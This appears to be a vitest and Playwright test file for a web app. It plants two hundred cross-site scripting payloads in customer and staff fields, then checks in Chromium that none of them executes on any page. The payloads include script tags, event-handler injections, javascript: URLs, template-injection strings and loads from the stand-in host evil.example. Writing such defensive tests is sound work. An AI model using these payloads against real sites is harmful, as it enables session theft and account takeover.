/**
 * Two hundred payloads, stored through the commands that outsiders reach (complaint, names, file name, design name, user
 * agent, bounce words), then every page that shows them is opened in Chromium by customer and administrator: none runs,
 * none becomes an element, and the policy never has to step in.
 *
 * Mutant: any of these texts through dangerouslySetInnerHTML, or the serialised loader data without its escaping.
 */
import { existsSync } from "node:fs";

import { chromium, type Browser } from "playwright";
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ACCESS } from "../../app/access";
import { createStaffUser } from "../../app/domain/accounts/staff.server";
import { deliveries } from "../../app/domain/deliveries/schema";
import { testApp, type TestApp } from "../support/app";
import { at } from "../support/factories";
import { allRoutes, fill } from "../support/routes";
import { aCustomerWithEverything, aProduct, thingNamedBy, type Things } from "../support/scene";
import { signIn } from "../support/sign-in";

const RUN = "window.__ran=1";
const VECTORS = [
  `<script data-x>${RUN}</script>`, `<ScRiPt data-x>${RUN}</sCrIpT>`, `<script data-x src=//evil.example/x.js></script>`, `<img data-x src=x onerror=${RUN}>`,
  `<svg data-x onload=${RUN}>`, `<svg data-x><script>${RUN}</script></svg>`, `<iframe data-x srcdoc="<script>parent.${RUN}</script>">`, `<iframe data-x src="javascript:parent.${RUN}">`,
  `<a data-x href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`, `<body data-x onload=${RUN}>`, `<input data-x autofocus onfocus=${RUN}>`, `<details data-x open ontoggle=${RUN}>`,
  `<video data-x><source onerror=${RUN}></video>`, `<object data-x data="javascript:${RUN}">`, `<embed data-x src="javascript:${RUN}">`, `<form data-x action="javascript:${RUN}"><button autofocus>`,
  `<math data-x><mtext><script>${RUN}</script></mtext></math>`, `<style data-x>*{background:url(//evil.example)}</style>`, `<link data-x rel=stylesheet href=//evil.example/x.css>`, `<meta data-x http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base data-x href=//evil.example/>`, `<template data-x><script>${RUN}</script></template>`, `<marquee data-x onstart=${RUN}>`, `<audio data-x src=x onerror=${RUN}>`, `<button data-x popovertarget=y onclick=${RUN}>`,
];
const WRAPPED = [(v: string) => v, (v: string) => `"'>${v}`, (v: string) => `</script></title></textarea>${v}`, (v: string) => `--></style>${v}<!--`, (v: string) => `${v}\u2028\${${RUN}}{{constructor.constructor('${RUN}')()}}`];
const UNPARSED = ["&lt;img data-x src=x onerror=1&gt;", "\\u003cimg data-x\\u003e", "%3Cimg data-x%3E", "javascript:window.__ran=1", "data:text/html,<script data-x>1</script>"];
export const PAYLOADS = VECTORS.flatMap((v) => WRAPPED.map((wrap) => wrap(v))).concat(VECTORS.flatMap((v) => UNPARSED.slice(0, 3).map((u) => u + v)));

let app: TestApp;
let browser: Browser | undefined;
let things: Things;
const chromiumPath = "/usr/bin/chromium";

beforeAll(async () => {
  if (!existsSync(chromiumPath)) return;
  app = await testApp();
  const by = at(Date.now());
  things = await aCustomerWithEverything(app, "mallory", await aProduct(app), {
    givenName: `"'><img data-x src=x onerror=${RUN}>`,
    familyName: `</script><script data-x>${RUN}</script>`,
    description: PAYLOADS.join("\n").slice(0, 15_000),
    design: `<svg data-x onload=${RUN}>`,
    photo: `"><img data-x src=x onerror=${RUN}>.png`,
  });
  await app.db.write(async (tx) => {
    await createStaffUser(tx, by, { email: "admin@example.com", name: `<img data-x src=x onerror=${RUN}>`, role: "administrator", locale: "en" });
    await tx.update(deliveries).set({ words: PAYLOADS.slice(0, 40).join(" "), recipientName: PAYLOADS[0] ?? "" });
  });
  browser = await chromium.launch({ executablePath: chromiumPath, args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"] });
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await app?.close();
});

test("there are two hundred of them", () => {
  expect(new Set(PAYLOADS).size).toBe(200);
});

describe.runIf(existsSync(chromiumPath))("opened in a browser", () => {
  test.each([
    { who: "the customer", email: () => things.email, area: "/portal" },
    { who: "an administrator", email: () => "admin@example.com", area: "/staff" },
  ])("by $who none runs", async ({ email, area }) => {
    const [name, value] = (await signIn(app, email())).split("=") as [string, string];
    const context = await browser!.newContext({ userAgent: `Mozilla <img data-x src=x onerror=${RUN}>` });
    await context.addCookies([{ name, value, url: app.url }]);
    const page = await context.newPage();
    const trouble: string[] = [];
    page.on("dialog", (dialog) => void dialog.dismiss().then(() => trouble.push("a dialog opened")));
    // The browser's own page round a picture wants inline styles: that policy is meant to refuse.
    page.on("console", (message) => /Content Security Policy/.test(message.text()) && !/\/photos\//.test(page.url()) && trouble.push(`${page.url()}: ${message.text().slice(0, 200)}`));
    page.on("request", (request) => new URL(request.url()).host === "evil.example" && trouble.push(`${page.url()} asked evil.example`));
    let opened = 0;
    for (const route of allRoutes().filter((r) => r.path.startsWith(area) && ACCESS[r.id]?.read.length)) {
      const thing = thingNamedBy(route.path);
      if (route.params.length && !thing) continue;
      const path = fill(route.path, Object.fromEntries(route.params.map((param) => [param, thing ? String(things[thing]) : "x"])));
      const response = await page.goto(app.url + path, { waitUntil: "load" }).catch(() => null);
      if (!response || !(response.headers()["content-type"] ?? "").includes("text/html")) continue;
      opened += 1;
      await page.waitForTimeout(50);
      for (const frame of page.frames()) {
        const found = await frame.evaluate(() => ({ ran: "__ran" in globalThis, elements: document.querySelectorAll("[data-x]").length })).catch(() => ({ ran: false, elements: 0 }));
        if (found.ran) trouble.push(`${path}: it ran`);
        if (found.elements) trouble.push(`${path}: ${found.elements} elements`);
      }
    }
    expect(trouble).toEqual([]);
    expect(opened).toBeGreaterThan(8);
    await context.close();
  }, 240_000);
});
